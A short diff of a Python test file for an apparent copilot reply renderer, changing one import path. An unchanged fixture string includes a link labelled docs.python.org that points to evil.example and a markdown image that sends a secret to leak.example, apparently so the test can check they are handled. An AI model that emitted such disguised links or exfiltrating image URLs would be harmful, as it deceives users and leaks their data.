@@ -8,7 +8,7 @@ from app.copilot import events
 from app.copilot.events import Event
 from app.copilot.testing import text
 from app.web import LiveText
-from tests.test_markdown import Elements
+from tests.helpers.markdown import Elements
 
 REPLY = "Here:\n\n- **one**\n- two\n\n```\nx  =  1\n```\n\n[docs.python.org](https://evil.example/p) ![x](https://leak.example/?q=secret)"
 
